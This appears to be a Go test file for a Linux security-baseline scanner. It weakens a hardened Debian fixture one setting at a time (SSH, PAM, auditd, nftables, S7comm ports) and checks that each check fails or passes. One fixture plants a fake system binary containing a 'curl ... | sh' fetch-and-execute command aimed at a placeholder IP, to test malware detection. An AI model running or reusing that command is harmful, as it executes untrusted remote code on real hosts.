package baseline

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// fixtureEdit changes one file of a fixture copy.
type fixtureEdit func(t *testing.T, root string)

func writeRel(content string, rel string) fixtureEdit {
	return func(t *testing.T, root string) {
		p := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func replaceRel(rel, old, new string) fixtureEdit {
	return func(t *testing.T, root string) {
		p := filepath.Join(root, filepath.FromSlash(rel))
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(b), old) {
			t.Fatalf("%s does not contain %q", rel, old)
		}
		if err := os.WriteFile(p, []byte(strings.Replace(string(b), old, new, 1)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func removeRel(rel string) fixtureEdit {
	return func(t *testing.T, root string) {
		if err := os.Remove(filepath.Join(root, filepath.FromSlash(rel))); err != nil {
			t.Fatal(err)
		}
	}
}

// TestOneChangeFixtures starts from debian-hardened, where every check
// below passes (TestFixtures asserts it), changes one thing the way an
// administrator would, and asserts the check's new verdict. It covers a
// FAIL fixture for every check added by issue 10 and each class of
// misreading the issue lists.
func TestOneChangeFixtures(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, id string
		want     State
		edit     fixtureEdit
	}{
		// new checks
		{"Match block re-enables forwarding", "LNX-SSH-006", StateFail, writeRel("Match User alice\n    DisableForwarding no\n    AllowTcpForwarding yes\n", "etc/ssh/sshd_config.d/20-fwd.conf")},
		{"nullok on a continued pam_unix line", "LNX-ACC-008", StateFail, replaceRel("etc/pam.d/common-auth", "pam_unix.so", "pam_unix.so \\\n\tnullok")},
		{"no GRUB password", "LNX-ACC-009", StateFail, replaceRel("boot/grub/grub.cfg", "password_pbkdf2", "#password_pbkdf2")},
		{"emergency shell forced without password", "LNX-ACC-010", StateFail, writeRel("[Service]\nEnvironment=SYSTEMD_SULOGIN_FORCE=1\n", "etc/systemd/system/emergency.service.d/override.conf")},
		{"cron.allow removed", "LNX-PRV-003", StateFail, removeRel("etc/cron.allow")},
		{"never rule hides module loading", "LNX-LOG-005", StateFail, writeRel("-a never,exit -F arch=b64 -S init_module\n", "etc/audit/rules.d/55-quiet.rules")},
		{"localtime watch commented out", "LNX-LOG-006", StateFail, replaceRel("etc/audit/rules.d/60-kernel.rules", "-w /etc/localtime", "#-w /etc/localtime")},
		{"hosts watch removed", "LNX-LOG-007", StateFail, replaceRel("etc/audit/rules.d/60-kernel.rules", "-w /etc/hosts -p wa -k system-locale\n", "")},
		{"rules not immutable", "LNX-LOG-008", StateFail, writeRel("-e 1\n", "etc/audit/rules.d/99-finalize.rules")},
		{"disk full ignored (last line wins)", "LNX-LOG-009", StateFail, replaceRel("etc/audit/auditd.conf", "disk_full_action = single", "disk_full_action = single\ndisk_full_action = ignore")},
		{"system binary modified", "LNX-MAL-004", StateFail, writeRel("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", "usr/bin/ics-gatewayctl")},
		{"unpackaged set-uid file", "LNX-FIL-002", StateFail, func(t *testing.T, root string) {
			needUnixModes(t)
			writeRel("#!/bin/sh\n", "usr/local/bin/helper")(t, root)
			if err := os.Chmod(filepath.Join(root, "usr/local/bin/helper"), 0o755|fs.ModeSetuid); err != nil {
				t.Fatal(err)
			}
		}},
		{"world-writable file", "LNX-FIL-003", StateFail, func(t *testing.T, root string) {
			if err := os.Chmod(filepath.Join(root, "etc/hostname"), 0o666); err != nil {
				t.Fatal(err)
			}
		}},
		{"unowned file", "LNX-FIL-004", StateFail, func(t *testing.T, root string) {
			if os.Geteuid() != 0 {
				t.Skip("chown to an unknown uid needs root")
			}
			if err := os.Lchown(filepath.Join(root, "etc/hostname"), 4242, 4242); err != nil {
				t.Fatal(err)
			}
		}},
		{"/tmp without noexec", "LNX-FIL-005", StateFail, replaceRel("proc/mounts", "tmpfs /tmp tmpfs rw,nosuid,nodev,noexec", "tmpfs /tmp tmpfs rw,nosuid,nodev")},
		{"sctp only blacklisted", "LNX-KRN-004", StateFail, replaceRel("etc/modprobe.d/ics-hardening.conf", "install sctp /bin/false\n", "")},
		{"udf loaded", "LNX-KRN-005", StateFail, replaceRel("proc/modules", "nf_tables", "udf 1 0 - Live 0x0\nnf_tables")},
		{"martians not logged, persisted", "LNX-KRN-006", StateFail, writeRel("net.ipv4.conf.all.log_martians = 0\n", "etc/sysctl.d/70-noisy.conf")},
		{"core limit removed", "LNX-KRN-007", StateFail, removeRel("etc/security/limits.d/60-ics-core.conf")},
		// the misreadings of issue 10, as classes
		{"Match all permits root", "LNX-SSH-001", StateFail, writeRel("Match all\n    PermitRootLogin yes\n", "etc/ssh/sshd_config.d/30-all.conf")},
		{"PermitRootLogin No (sshd is case-insensitive)", "LNX-SSH-001", StatePass, replaceRel("etc/ssh/sshd_config", "PermitRootLogin no", "PERMITROOTLOGIN No")},
		{"fully commented-out audit rules", "LNX-LOG-002", StateFail, func(t *testing.T, root string) {
			b, _ := os.ReadFile(filepath.Join(root, "etc/audit/rules.d/50-ics.rules"))
			writeRel("#"+strings.ReplaceAll(strings.TrimSpace(string(b)), "\n", "\n#")+"\n", "etc/audit/rules.d/50-ics.rules")(t, root)
		}},
		{"nft rule by service name opens ssh to all", "LNX-FW-002", StateFail, replaceRel("etc/nftables.conf", "tcp dport 22 ip saddr 10.0.9.0/24 accept", "tcp dport ssh accept")},
		{"Debian stock nftables.conf", "LNX-FW-001", StateFail, writeRel("#!/usr/sbin/nft -f\nflush ruleset\ntable inet filter {\n\tchain input {\n\t\ttype filter hook input priority filter;\n\t}\n\tchain forward {\n\t\ttype filter hook forward priority filter;\n\t}\n\tchain output {\n\t\ttype filter hook output priority filter;\n\t}\n}\n", "etc/nftables.conf")},
		{"S7 listener on all interfaces behind policy drop", "LNX-IND-001", StatePass, s7Listener},
		{"S7 listener on all interfaces, port open", "LNX-IND-001", StateFail, func(t *testing.T, root string) {
			s7Listener(t, root)
			replaceRel("etc/nftables.conf", "tcp dport 502 ip saddr { 10.0.0.20, 10.0.0.21 } accept", "tcp dport 1020 ip saddr 10.0.0.102 accept\n    tcp dport 102 accept")(t, root)
		}},
		{"PASS_MAX_DAYS = 90 (useradd rejects it)", "LNX-ACC-002", StateFail, replaceRel("etc/login.defs", "PASS_MAX_DAYS\t90", "PASS_MAX_DAYS = 90")},
		{"rsyslog omfwd over several lines", "LNX-LOG-004", StatePass, writeRel("*.* action(type=\"omfwd\"\n      target=\"10.0.0.9\"\n      port=\"6514\" protocol=\"tcp\")\n", "etc/rsyslog.d/90-forward.conf")},
		{"persisted sysctl differs from running (drift)", "LNX-KRN-001", StateFail, writeRel("kernel.randomize_va_space = 0\n", "etc/sysctl.d/99-zz-debug.conf")},
		{"sysctl.d file hidden by an /etc copy of the same name", "LNX-KRN-001", StatePass, writeRel("kernel.randomize_va_space = 0\n", "usr/lib/sysctl.d/60-ics-hardening.conf")},
		{"chrony enabled but not running", "LNX-TIM-001", StateFail, writeRel("bash\n", "proc/103/comm")},
	}
	for _, tc := range tests {
		t.Run(tc.id+" "+tc.name, func(t *testing.T) {
			t.Parallel()
			rep := scanFixture(t, "debian-hardened", func(cfg *Config) { tc.edit(t, cfg.Root) })
			for _, r := range rep.Results {
				if r.ID == tc.id && r.State != tc.want {
					t.Errorf("%s = %s, want %s: %q", r.ID, r.State, tc.want, r.Evidence)
				}
			}
		})
	}
}

// s7Listener adds a listener on 0.0.0.0:102 (S7comm).
func s7Listener(t *testing.T, root string) {
	replaceRel("proc/net/tcp", "   2: 0100007F:12E8", "   3: 00000000:0066 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1003 1 0000000000000000 100 0 0 10 0\n   2: 0100007F:12E8")(t, root)
}
